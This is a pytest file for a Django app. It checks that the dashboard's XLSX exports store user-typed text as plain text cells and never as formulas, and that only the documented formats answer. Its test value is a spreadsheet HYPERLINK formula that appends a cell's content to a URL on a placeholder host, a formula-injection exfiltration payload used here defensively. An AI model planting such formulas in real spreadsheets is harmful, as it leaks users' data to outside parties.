"""Security of the dashboard exports: typed texts are text cells, never formulas; only XLSX and PDF answer."""

import io

import pytest
from openpyxl import load_workbook

from pilotactions.accounts.enums import RoleKind as R
from pilotactions.measures.models import Committee, Measure, Objective
from tests.factories import login, make_role

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://exemple.invalid/?"&B2,"Voir")'
WORDING = "=1+1"


@pytest.fixture
def typed(measures):
    Measure.objects.filter(number=1).update(title=FORMULA)
    Objective.objects.filter(pk=Objective.objects.filter(measure__number=1).order_by("order").values("pk")[:1]).update(
        wording=WORDING
    )
    committee = Committee.objects.get()
    if committee.frozen_dashboard is not None:  # a closed session prints its frozen table: what was typed then
        for row in committee.frozen_dashboard["rows"]:
            if row["number"] == 1:
                row["title"] = FORMULA
                row["objectives"][0]["wording"] = WORDING
        committee.save(update_fields=["frozen_dashboard"])


def _assert_text_cells(content: bytes) -> None:
    sheet = load_workbook(io.BytesIO(content))["Tableau de bord"]
    titles = [row[2] for row in sheet.iter_rows(min_row=4) if row[1].value == 1]
    assert titles and all((cell.value, cell.data_type) == (FORMULA, "s") for cell in titles)
    wordings = [row[4] for row in sheet.iter_rows(min_row=4) if row[4].value == WORDING]
    assert [cell.data_type for cell in wordings] == ["s"]
    numbers = [row[1] for row in sheet.iter_rows(min_row=4)]
    assert all(cell.data_type == "n" for cell in numbers)  # measure numbers stay numbers


def test_the_dashboard_xlsx_never_holds_a_formula(client, typed):
    login(client, make_role(R.NATIONAL_READER))
    response = client.get("/mesures/tableau-de-bord.xlsx")
    assert response.status_code == 200
    _assert_text_cells(response.content)


def test_the_committee_xlsx_never_holds_a_formula(client, typed):
    login(client, make_role(R.NATIONAL_READER))
    response = client.get(f"/mesures/comites/{Committee.objects.get().pk}/tableau-de-bord.xlsx")
    assert response.status_code == 200
    _assert_text_cells(response.content)


@pytest.mark.parametrize("extension", ["html", "csv", "XLSX", "xlsx.html"])
def test_only_the_documented_formats_answer(client, measures, extension):
    login(client, make_role(R.NATIONAL_READER))
    assert client.get(f"/mesures/tableau-de-bord.{extension}").status_code == 404
    assert client.get(f"/mesures/comites/{Committee.objects.get().pk}/tableau-de-bord.{extension}").status_code == 404
